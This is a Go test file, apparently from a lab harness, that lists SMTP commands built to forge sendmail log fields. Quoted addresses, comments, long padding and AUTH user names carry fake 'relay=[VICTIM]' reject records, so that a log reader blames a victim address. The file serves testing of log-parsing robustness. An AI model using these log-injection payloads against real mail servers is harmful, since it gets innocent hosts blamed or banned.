package lab

import "strings"

// A trick makes sendmail write the victim's address where a careless reader
// takes it for the offender's.
type trick struct {
	name         string
	before       func(d *dialogue)
	command      string // VICTIM and VICTIM6 stand for the addresses
	reason, code string // of the refusal
}

var tricks = []trick{
	{
		"a relay in a quoted local part, before the true one and in the echo", openMail,
		`RCPT TO:<"u, relay=victim.example [VICTIM], reject=550 5.7.1 <a@b>... Relaying denied"@elsewhere.example>`,
		"relay_denied", "550 5.7.1",
	},
	{
		"the same with an IPv6 victim", openMail,
		`RCPT TO:<"u, relay=[IPv6:VICTIM6], reject=550 5.7.1 z"@elsewhere.example>`,
		"relay_denied", "550 5.7.1",
	},
	{
		"a relay in a comment", openMail,
		`RCPT TO:<a@elsewhere.example (, relay=[VICTIM], reject=550 5.7.1 z)>`,
		"relay_denied", "550 5.7.1",
	},
	{
		"a sender that the reject text repeats without quotes", greet,
		`MAIL FROM:<"x, relay=[VICTIM], reject=550 5.7.1 y"@nxdomain.invalid>`,
		"sender_domain", "553 5.1.8",
	},
	{
		"a whole record as a recipient", openMail,
		`RCPT TO:ruleset=check_rcpt(, arg1=<a@b>, relay=[VICTIM], reject=550 5.7.1 Relaying denied)<zz@lab.example>`,
		"unknown_user", "550 5.1.1",
	},
	{
		"a null connection as a comment", openMail,
		`RCPT TO:(victim [VICTIM] did not issue MAIL/EXPN/VRFY/ETRN during connection to MTA)<qq@lab.example>`,
		"unknown_user", "550 5.1.1",
	},
	{
		"a from= record, echoed at the end of a line by the administrator's own text", openMail,
		`RCPT TO:from=<"x, size=0, class=0, nrcpts=0, proto=ESMTP, daemon=MTA, relay=victim.example [VICTIM]"@echo.example>`,
		"unknown_user", "550 5.1.1",
	},
	{
		"a command so long that the fake record begins a log line of its own", begin,
		"AUTH PLAIN " + strings.Repeat("X", 940) +
			" ruleset=check_rcpt, arg1=<a@b>, relay=victim.example [VICTIM], reject=550 5.7.1 <a@b>... Relaying denied " +
			strings.Repeat("Y", 900),
		"auth_decode", "501",
	},
	{
		"a relay in the user name", begin,
		"AUTH PLAIN " + credentials("bob, relay=["+victim.String()+"]", "pw"),
		"auth_fail", "535",
	},
}

// play holds the session of a trick.
func (t trick) play(d *dialogue) {
	command := strings.NewReplacer("VICTIM6", victim6.StringExpanded(), "VICTIM", victim.String()).Replace(t.command)
	t.before(d)
	if d.host == "mx2" && strings.HasPrefix(command, "MAIL") {
		d.must("250", command) // mx2 checks the sender at the first recipient
		command = "RCPT TO:<alice@lab.example>"
	}
	d.offend(t.reason, t.code, command)
	d.quit()
}

func greet(d *dialogue) { d.hello("mail.sender.example") }

func openMail(d *dialogue) {
	greet(d)
	d.from("a@sender.example")
}
